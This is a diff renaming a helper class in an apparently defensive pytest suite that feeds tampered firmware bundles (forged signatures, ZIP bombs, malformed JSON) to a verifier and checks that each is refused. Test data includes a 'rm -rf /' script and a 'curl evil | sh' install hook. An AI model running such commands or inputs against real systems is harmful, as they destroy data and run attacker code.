@@ -22,7 +22,7 @@ import pytest
 from fieldkit.bundles.container import BundleContainer
 from fieldkit.bundles.verify import ChargerFacts
 from fieldkit.config import Limits, Settings
-from tests.support.world import NOW, World, iso, with_components
+from tests.support.bundle_lab import NOW, BundleLab, iso, with_components
 from tests.support.zipcraft import RawEntry, craft_zip
 
 AC22_C = ChargerFacts(model="VQ-AC22", hardware_revision="C", installed_version="2.3.0", installed_security_version=4)
@@ -30,13 +30,13 @@ AC22_C = ChargerFacts(model="VQ-AC22", hardware_revision="C", installed_version=
 
 @dataclass
 class Attack:
-    build: Callable[[World], Path]
+    build: Callable[[BundleLab], Path]
     check: str
     code: str
     facts: ChargerFacts | None = None
     now: dt.datetime = NOW
     settings: Settings | None = None
-    store: Callable[[World], Any] | None = None
+    store: Callable[[BundleLab], Any] | None = None
     extra: dict[str, Any] = field(default_factory=dict)
 
 
@@ -57,7 +57,7 @@ def _members(path: Path) -> dict[str, bytes]:
     return {m.name: raw[m.data_offset : m.data_offset + m.size_bytes] for m in container.members.values()}
 
 
-def _rebuild(w: World, members: list[tuple[str, bytes]], **entry_options: Any) -> Path:
+def _rebuild(w: BundleLab, members: list[tuple[str, bytes]], **entry_options: Any) -> Path:
     """Write ``members`` as a (possibly non-canonical) ZIP, recomputing CRCs like an attacker would."""
     w._counter += 1
     path = w.dir / f"crafted-{w._counter}.fwbundle"
@@ -65,12 +65,12 @@ def _rebuild(w: World, members: list[tuple[str, bytes]], **entry_options: Any) -
     return path
 
 
-def tampered_payload(w: World) -> Path:
+def tampered_payload(w: BundleLab) -> Path:
     path = w.bundle()
     return _flip(path, _member_offset(path, "payloads/rootfs") + 100)
 
 
-def tampered_manifest(w: World) -> Path:
+def tampered_manifest(w: BundleLab) -> Path:
     members = _members(w.bundle())
     manifest = members["manifest.json"].replace(b'"security_version": 5', b'"security_version": 9')
     return _rebuild(
@@ -83,12 +83,12 @@ def tampered_manifest(w: World) -> Path:
     )
 
 
-def manifest_byte_flipped_raw(w: World) -> Path:
+def manifest_byte_flipped_raw(w: BundleLab) -> Path:
     path = w.bundle()
     return _flip(path, _member_offset(path, "manifest.json") + 10)
 
 
-def missing_signatures(w: World) -> Path:
+def missing_signatures(w: BundleLab) -> Path:
     members = _members(w.bundle())
     return _rebuild(
         w,
@@ -99,7 +99,7 @@ def missing_signatures(w: World) -> Path:
     )
 
 
-def copied_signature(w: World) -> Path:
+def copied_signature(w: BundleLab) -> Path:
     other = _members(w.bundle(version="9.9.9", bundle_id="other"))
     members = _members(w.bundle())
     return _rebuild(
@@ -112,7 +112,7 @@ def copied_signature(w: World) -> Path:
     )
 
 
-def manifest_swapped(w: World) -> Path:
+def manifest_swapped(w: BundleLab) -> Path:
     evil = _members(w.bundle(payloads={"rootfs": b"EVILFS" * 1000}))
     good = _members(w.bundle())
     return _rebuild(
@@ -125,7 +125,7 @@ def manifest_swapped(w: World) -> Path:
     )
 
 
-def payload_swapped(w: World) -> Path:
+def payload_swapped(w: BundleLab) -> Path:
     other = _members(w.bundle(payloads={"rootfs": b"OTHERS" * 1000}))
     path = w.bundle()
     data = bytearray(path.read_bytes())
@@ -135,8 +135,8 @@ def payload_swapped(w: World) -> Path:
     return path
 
 
-def with_extra_member(name: str, data: bytes = b"#!/bin/sh\nrm -rf /\n") -> Callable[[World], Path]:
-    def build(w: World) -> Path:
+def with_extra_member(name: str, data: bytes = b"#!/bin/sh\nrm -rf /\n") -> Callable[[BundleLab], Path]:
+    def build(w: BundleLab) -> Path:
         members = _members(w.bundle())
         return _rebuild(
             w,
@@ -151,7 +151,7 @@ def with_extra_member(name: str, data: bytes = b"#!/bin/sh\nrm -rf /\n") -> Call
     return build
 
 
-def unreferenced_payload(w: World) -> Path:
+def unreferenced_payload(w: BundleLab) -> Path:
     members = _members(w.bundle())
     return _rebuild(
         w,
@@ -164,7 +164,7 @@ def unreferenced_payload(w: World) -> Path:
     )
 
 
-def duplicate_member(w: World) -> Path:
+def duplicate_member(w: BundleLab) -> Path:
     members = _members(w.bundle())
     return _rebuild(
         w,
@@ -177,7 +177,7 @@ def duplicate_member(w: World) -> Path:
     )
 
 
-def symlink_member(w: World) -> Path:
+def symlink_member(w: BundleLab) -> Path:
     members = _members(w.bundle())
     return _rebuild(
         w,
@@ -190,7 +190,7 @@ def symlink_member(w: World) -> Path:
     )
 
 
-def deflate_bomb(w: World) -> Path:
+def deflate_bomb(w: BundleLab) -> Path:
     members = _members(w.bundle())
     return _rebuild(
         w,
@@ -203,7 +203,7 @@ def deflate_bomb(w: World) -> Path:
     )
 
 
-def compressed_payload(w: World) -> Path:
+def compressed_payload(w: BundleLab) -> Path:
     members = _members(w.bundle())
     return _rebuild(
         w,
@@ -216,7 +216,7 @@ def compressed_payload(w: World) -> Path:
     )
 
 
-def declared_size_bomb(w: World) -> Path:
+def declared_size_bomb(w: BundleLab) -> Path:
     members = _members(w.bundle())
     path = _rebuild(
         w,
@@ -239,7 +239,7 @@ def declared_size_bomb(w: World) -> Path:
     return path
 
 
-def overlapping_bomb(w: World) -> Path:
+def overlapping_bomb(w: BundleLab) -> Path:
     members = _members(w.bundle())
     entries = [
         RawEntry("manifest.json", members["manifest.json"]),
@@ -257,38 +257,38 @@ def overlapping_bomb(w: World) -> Path:
     return path
 
 
-def truncated(w: World) -> Path:
+def truncated(w: BundleLab) -> Path:
     path = w.bundle()
     data = path.read_bytes()
     path.write_bytes(data[: len(data) // 2])
     return path
 
 
-def not_a_zip(w: World) -> Path:
+def not_a_zip(w: BundleLab) -> Path:
     path = w.dir / "not-a-zip.fwbundle"
     path.write_bytes(b"\x7fELF" + b"\0" * 4000)
     return path
 
 
-def empty(w: World) -> Path:
+def empty(w: BundleLab) -> Path:
     path = w.dir / "empty.fwbundle"
     path.write_bytes(b"")
     return path
 
 
-def trailing_data(w: World) -> Path:
+def trailing_data(w: BundleLab) -> Path:
     path = w.bundle()
     path.write_bytes(path.read_bytes() + b"hidden")
     return path
 
 
-def prepended_data(w: World) -> Path:
+def prepended_data(w: BundleLab) -> Path:
     path = w.bundle()
     path.write_bytes(b"MZ" + path.read_bytes())
     return path
 
 
-def crc_field_altered(w: World) -> Path:
+def crc_field_altered(w: BundleLab) -> Path:
     members = _members(w.bundle())
     return _rebuild(
         w,
@@ -301,7 +301,7 @@ def crc_field_altered(w: World) -> Path:
     )
 
 
-def encrypted_member(w: World) -> Path:
+def encrypted_member(w: BundleLab) -> Path:
     members = _members(w.bundle())
     return _rebuild(
         w,
@@ -314,7 +314,7 @@ def encrypted_member(w: World) -> Path:
     )
 
 
-def non_canonical_signatures(w: World) -> Path:
+def non_canonical_signatures(w: BundleLab) -> Path:
     members = _members(w.bundle())
     pretty = json.dumps(json.loads(members["signatures.json"]), indent=1).encode()
     return _rebuild(
@@ -327,7 +327,7 @@ def non_canonical_signatures(w: World) -> Path:
     )
 
 
-def _hostile_signatures(w: World, text: bytes) -> Path:
+def _hostile_signatures(w: BundleLab, text: bytes) -> Path:
     members = _members(w.bundle())
     return _rebuild(
         w,
@@ -339,77 +339,77 @@ def _hostile_signatures(w: World, text: bytes) -> Path:
     )
 
 
-def signatures_huge_integer(w: World) -> Path:
+def signatures_huge_integer(w: BundleLab) -> Path:
     """A 5,000-digit number: Python's own int() limit raised an error nobody caught (exit 70)."""
     return _hostile_signatures(w, b'{"schema": "fieldkit-signatures", "schema_version": ' + b"7" * 5000 + b"}")
 
 
-def signatures_escaped_quotes(w: World) -> Path:
+def signatures_escaped_quotes(w: BundleLab) -> Path:
     """256 KB of escaped quotes in an unterminated string: the depth scan took minutes on it."""
     return _hostile_signatures(w, b'{"a": "' + b'\\"' * (128 * 1024 - 8))
 
 
-def manifest_too_large(w: World) -> Path:
+def manifest_too_large(w: BundleLab) -> Path:
     payloads = {"rootfs": b"x" * 10}
     document = w.manifest(payloads, release_notes="A" * (1024 * 1024 + 10))
     return w.bundle(payloads=payloads, manifest=document)
 
 
-def deeply_nested(w: World) -> Path:
+def deeply_nested(w: BundleLab) -> Path:
     payloads = {"rootfs": b"x" * 10}
     raw = json.dumps(w.manifest(payloads)).encode()
     raw = raw[:-1] + b', "x": ' + b"[" * 5000 + b"]" * 5000 + b"}"
     return w.bundle(payloads=payloads, manifest_bytes=raw)
 
 
-def duplicate_json_key(w: World) -> Path:
+def duplicate_json_key(w: BundleLab) -> Path:
     payloads = {"rootfs": b"x" * 10}
     raw = json.dumps(w.manifest(payloads)).encode()
     raw = raw[:-1] + b', "security_version": 99}'
     return w.bundle(payloads=payloads, manifest_bytes=raw)
 
 
-def unknown_schema(w: World) -> Path:
+def unknown_schema(w: BundleLab) -> Path:
     return w.bundle(schema_version=3)
 
 
-def unknown_field(w: World) -> Path:
+def unknown_field(w: BundleLab) -> Path:
     payloads = {"rootfs": b"x" * 10}
     document = w.manifest(payloads)
     document["post_install_hook"] = "curl evil | sh"
     return w.bundle(payloads=payloads, manifest=document)
 
 
-def metrology_without_countersignature(w: World) -> Path:
+def metrology_without_countersignature(w: BundleLab) -> Path:
     payloads = {"meter": b"M" * 100}
     return w.bundle(payloads=payloads, manifest=with_components(w.manifest(payloads), metrology_relevant=True))
 
 
-def x509_chain(leaf_key_attr: str, leaf_attr: str, **manifest: Any) -> Callable[[World], Path]:
-    def build(w: World) -> Path:
+def x509_chain(leaf_key_attr: str, leaf_attr: str, **manifest: Any) -> Callable[[BundleLab], Path]:
+    def build(w: BundleLab) -> Path:
         leaf_key, leaf = getattr(w, leaf_key_attr), getattr(w, leaf_attr)
         return w.bundle(signers=[leaf_key], chains={0: [leaf]}, **manifest)
 
     return build
 
 
-def ocpp_mismatch(w: World) -> Path:
+def ocpp_mismatch(w: BundleLab) -> Path:
     payloads = {"app": b"FIRMWARE" * 100}
     document = with_components(w.manifest(payloads), ocpp=w.ocpp_block(b"OTHER FIRMWARE"))
     return w.bundle(payloads=payloads, manifest=document)
 
 
-def ocpp_untrusted(w: World) -> Path:
+def ocpp_untrusted(w: BundleLab) -> Path:
     payloads = {"app": b"FIRMWARE" * 100}
     block = w.ocpp_block(payloads["app"], key=w.rogue_leaf_key, cert=w.rogue_leaf)
     return w.bundle(payloads=payloads, manifest=with_components(w.manifest(payloads), ocpp=block))
 
 
-def signed_by(*attrs: str) -> Callable[[World], Path]:
+def signed_by(*attrs: str) -> Callable[[BundleLab], Path]:
     return lambda w: w.bundle(signers=[getattr(w, a) for a in attrs])
 
 
-def wrong_algorithm_label(w: World) -> Path:
+def wrong_algorithm_label(w: BundleLab) -> Path:
     members = _members(w.bundle())
     doc = json.loads(members["signatures.json"])
     doc["signatures"][0]["algorithm"] = "ecdsa-p256-sha256"
@@ -526,11 +526,11 @@ def test_the_table_is_big_enough() -> None:
 
 
 @pytest.mark.parametrize("name", list(ATTACKS))
-def test_attack_is_refused_for_its_reason(world: World, name: str) -> None:
+def test_attack_is_refused_for_its_reason(lab: BundleLab, name: str) -> None:
     attack = ATTACKS[name]
-    path = attack.build(world)
-    store = attack.store(world) if attack.store else None
-    report = world.verify(path, attack.facts, store=store, now=attack.now, settings=attack.settings)
+    path = attack.build(lab)
+    store = attack.store(lab) if attack.store else None
+    report = lab.verify(path, attack.facts, store=store, now=attack.now, settings=attack.settings)
     failure = report.failure
     assert failure is not None, f"{name}: accepted"
     assert (failure.name, failure.code) == (attack.check, attack.code), f"{name}: {failure}"
